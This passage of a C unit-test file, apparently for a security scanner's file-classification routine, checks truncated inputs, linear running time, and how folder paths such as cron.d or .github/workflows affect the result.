    static const char *const texts[] = {
        PROSE "```sh\nx\n```\n" PROSE,
        YARA,
        SIGMA,
        PAGE_HEAD "<script>x</script>" PAGE_BODY,
        "{\"a\":[1,{\"b\":\"\\u0041\"}],\"lockfileVersion\":2}",
        "%PDF-1.4\n" PDF_BODY,
        "# yarn lockfile v1\n\"a@1\":\n  version \"1\"\n",
        "=== A B C ===\nX=1\n=== D E ===\n",
        "2026-03-24T10:11:12Z a\n",
        "Mar 24 10:11:12 h a\n",
        "[24/Mar/2026:10:11:12 +0000] \"",
        ": 1711111111:0;x\n",
        "a,10.0.0.1,\"x\n",
        "[[package]]\nversion = \"1\"\n",
        "1) x\n> \n# \n",
    };
    static const char *const names[] = {"a", "a.md", "a.json", "a.yml", ".x_history"};

    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
        for (size_t size = 0; size <= strlen(texts[i]); size++) {
            char *cut = malloc(size > 0 ? size : 1); /* so that a sanitizer sees the end */
            assert_non_null(cut);
            memcpy(cut, texts[i], size);
            for (size_t j = 0; j < sizeof(names) / sizeof(names[0]); j++) {
                struct sw_place_facts facts = facts_of(names[j], cut, size);
                assert_in_range(sw_place_of(&facts), 0, SW_PLACE_COUNT - 1);
                facts.size++;
                assert_in_range(sw_place_of(&facts), 0, SW_PLACE_COUNT - 1);
            }
            free(cut);
        }
}

/* CPU seconds to judge `start` and as many units as fit into `size` bytes of `text`. */
static double seconds_for(char *text, size_t size, const char *start, const char *unit)
{
    size_t used = strlen(start), step = strlen(unit);

    memcpy(text, start, used);
    for (; used + step <= size; used += step)
        memcpy(text + used, unit, step);
    struct sw_place_facts facts = facts_of("a", text, used);
    clock_t before = clock();
    sw_place_of(&facts);
    return (double)(clock() - before) / CLOCKS_PER_SEC;
}

/* One line of a megabyte, of whatever could make a reader look back: it may take
 * eight times as long as an eighth of it, not 64 times. */
static void time_is_linear(void **state)
{
    (void)state;
    static const char *const units[] = {"word ",
                                        "a b ",
                                        "\\ words and more words ",
                                        "<a ",
                                        "<!--",
                                        "<script>",
                                        "x,",
                                        "`",
                                        "\"a\" ",
                                        "[",
                                        "{\"a\":",
                                        "/*",
                                        "rule a { condition: ",
                                        "a.",
                                        "== ",
                                        "> x ",
                                        "- "};
    static const char *const starts[] = {"", "<html>", "rule a { strings: ", "\\"};
    char *text = malloc(SW_PLACE_HEAD_MAX);

    assert_non_null(text);
    for (size_t i = 0; i < sizeof(starts) / sizeof(starts[0]); i++)
        for (size_t j = 0; j < sizeof(units) / sizeof(units[0]); j++) {
            double eighth = seconds_for(text, SW_PLACE_HEAD_MAX / 8, starts[i], units[j]);
            double whole = seconds_for(text, SW_PLACE_HEAD_MAX, starts[i], units[j]);
            if (whole > 24 * eighth + 0.25)
                fail_msg("%s %s: %.3f s, and %.3f s for an eighth", starts[i], units[j], whole,
                         eighth);
        }
    free(text);
}

/* Below a folder that says nothing everything is what it is elsewhere; below others something
 * is not. */
static void silent_folders(void **state)
{
    static const char *const silent[] = {"/", "/srv/app.tar/", "/home/u/cron.d.old/x/", "/etc/",
                                         "registry:h/etc@sha256:0/blobs/sha256/"};
    static const char *const loud[] = {
        "/etc/cron.d/",  "/x/Node_Modules/y/", "/etc/default/x/",    "/var/spool/cron/x/",
        "/x/.github/y/", "/x/workflows/y/",    "/a/site-packages!b/"};
    static const char *const rests[] = {
        "a",        "0a/x.js",      "layer.tar/a.pth", "0a/.github/x",  "0a/workflows/x",
        "0a/etc/x", "0a/default/x", "0a/README.md",    "0a/cron.d/x.md"};
    const char *text = "Some words about a thing, and then some more of them.\n";
    char one[512], two[512];

    (void)state;
    for (size_t i = 0; i < sizeof(silent) / sizeof(silent[0]); i++) {
        if (!sw_place_is_silent(view_of(silent[i])))
            fail_msg("%s is not silent", silent[i]);
        for (size_t j = 0; j < sizeof(rests) / sizeof(rests[0]); j++) {
            snprintf(one, sizeof(one), "%s%s", silent[0], rests[j]);
            snprintf(two, sizeof(two), "%s%s", silent[i], rests[j]);
            if (place_of(one, text) != place_of(two, text))
                fail_msg("%s and %s differ", one, two);
        }
    }
    for (size_t i = 0; i < sizeof(loud) / sizeof(loud[0]); i++) {
        bool differs = false;
        if (sw_place_is_silent(view_of(loud[i])))
            fail_msg("%s is silent", loud[i]);
        for (size_t j = 0; j < sizeof(rests) / sizeof(rests[0]); j++) {
            snprintf(one, sizeof(one), "%s%s", silent[0], rests[j]);
            snprintf(two, sizeof(two), "%s%s", loud[i], rests[j]);
            differs = differs || place_of(one, text) != place_of(two, text);
        }
        if (!differs)
            fail_msg("%s makes no difference", loud[i]);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_table),
        cmocka_unit_test(nothing_raises_and_all_explain),
        cmocka_unit_test(what_runs),
        cmocka_unit_test(what_runs_by_its_place),
        cmocka_unit_test(code_by_name_is_code),
        cmocka_unit_test(a_scanner_is_code),
        cmocka_unit_test(configuration),
        cmocka_unit_test(prose_is_prose),
        cmocka_unit_test(a_python_file_under_another_name),
        cmocka_unit_test(a_javascript_file_under_another_name),
        cmocka_unit_test(comments_prove_nothing),
        cmocka_unit_test(a_shell_script_under_another_name),
        cmocka_unit_test(blobs_in_prose),
        cmocka_unit_test(a_long_run_of_blank_lines),
        cmocka_unit_test(what_was_not_seen),
        cmocka_unit_test(other_encodings),
        cmocka_unit_test(pages),
        cmocka_unit_test(a_match_beside_the_script),
        cmocka_unit_test(pdf),
        cmocka_unit_test(yara_rules),
        cmocka_unit_test(yaml_rules),
        cmocka_unit_test(sensor_rules),
        cmocka_unit_test(indicator_lists),
        cmocka_unit_test(json_documents),
        cmocka_unit_test(lock_files),
        cmocka_unit_test(output),
        cmocka_unit_test(data),
        cmocka_unit_test(silent_folders),
        cmocka_unit_test(every_cut),
        cmocka_unit_test(time_is_linear),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
